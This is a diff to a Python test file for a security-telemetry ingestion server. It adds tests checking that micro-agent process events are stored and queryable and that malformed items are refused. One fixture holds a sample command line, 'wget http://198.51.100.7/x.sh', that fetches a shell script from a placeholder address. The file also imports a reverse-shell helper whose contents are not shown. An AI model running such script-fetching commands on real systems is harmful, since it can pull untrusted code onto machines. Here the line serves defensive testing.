@@ -9,7 +9,7 @@ import urllib.parse
 import urllib.request
 
 import pytest
-from security_messages import message, process_start, reverse_shell
+from security_messages import event, message, process_start, reverse_shell
 from turnstone_server import Device, Server, run, turnstone
 
 MESSAGE_BYTES_MAX = 262_144
@@ -274,6 +274,29 @@ def test_a_message_that_is_wrong_is_refused_by_the_field_and_noted(server, what)
 def test_a_body_that_is_no_message_is_refused(server, device, body):
     refusal(server.send(device, body), 400)
     server.accept(device, hello())
+
+
+def test_items_of_the_micro_agent_are_stored_with_the_keys_that_its_parsers_read(server, device):
+    item = {
+        "EventType": "EXEC", "ProcessId": 812, "ParentProcessId": 790, "UserId": 1000, "UserName": "pump",
+        "Executable": "/usr/bin/wget", "Commandline": "wget http://198.51.100.7/x.sh", "HitCount": 3,
+    }
+    sent = event("Process", [item])
+    assert server.send(device, message(sent)).status == 204
+    query = f"""SecurityIoTRawEvent
+        | where DeviceId == '{device.id}' and RawEventName == 'Process'
+        | extend d = todynamic(EventDetails)
+        | project Id = tostring(d.OriginalEventId), Device = tostring(d.DeviceId), Source = tostring(d.MessageSource),
+            Time = todatetime(d.TimestampUTC) == TimeStamp, Commandline = tostring(d.Commandline), Hits = toint(d.HitCount)"""
+    assert server.kusto(query).records == [{
+        "Id": sent["Id"], "Device": device.id, "Source": "Linux", "Time": True, "Commandline": item["Commandline"], "Hits": 3,
+    }]
+
+
+def test_an_item_of_the_micro_agent_that_is_wrong_is_refused_by_the_field(server, device):
+    item = {"Operation": "LoginTried", "ProcessId": 1, "UserName": "root", "Executable": "tty1", "RemoteAddress": "0.0.0.0"}
+    answer = server.send(device, message(event("Process", [item])))
+    assert "Events[0].Payload[0].Operation is no field of Process" in refusal(answer, 400)
 
 
 def test_one_wrong_event_refuses_the_whole_message(server, device):
